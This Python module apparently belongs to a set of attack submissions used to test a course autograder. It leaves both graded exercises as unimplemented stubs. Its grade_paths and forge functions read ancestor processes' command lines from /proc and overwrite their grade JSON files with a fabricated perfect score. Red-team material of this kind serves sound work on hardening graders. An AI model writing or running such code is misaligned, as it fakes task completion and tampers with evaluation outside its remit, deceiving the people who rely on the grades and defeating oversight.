"""The parts several attacks share, shipped beside each as ``attack_common.py`` in its submission (a submission
is a package: an attacker may add modules): the untouched stub's two exercises, and the forging of a full grade
into every grade file an ancestor process names."""

from gandalf_core import ClearColorComponent, System

from ..components import HueCycleComponent


def hsv_to_rgb(hue, saturation, value):
    raise NotImplementedError("exercise: hsv_to_rgb")


class HueCycleSystem(System):
    def __init__(self):
        super().__init__([HueCycleComponent, ClearColorComponent])

    def on_update_entity(self, ts, entity, components):
        raise NotImplementedError("exercise: HueCycleSystem.on_update_entity")


def grade_paths():
    """The --json/--gradescope paths of every ancestor process (their command lines are world-readable)."""
    import os
    paths, pid = [], os.getpid()
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        for flag in (b"--json", b"--grade-json", b"--gradescope"):
            if flag in args:
                paths.append((flag.decode(), args[args.index(flag) + 1].decode()))
    return paths


def forge():
    import json
    full = {"mode": "exercises (student)", "earned": 2.0, "possible": 2.0, "score": 1.0, "graded_tests": 46,
            "graded_tests_passed": 46, "collection_errors": {}, "exercises": [
                {"step": "step01_window", "exercise": e, "earned": 1.0, "possible": 1.0, "tests": 1, "passed": 1}
                for e in ("HueCycleSystem", "hsv_to_rgb")], "tests": []}
    for flag, path in grade_paths():
        try:
            with open(path, "w") as f:
                json.dump(full if flag != "--gradescope" else {"score": 2.0, "tests": []}, f)
        except OSError:
            pass
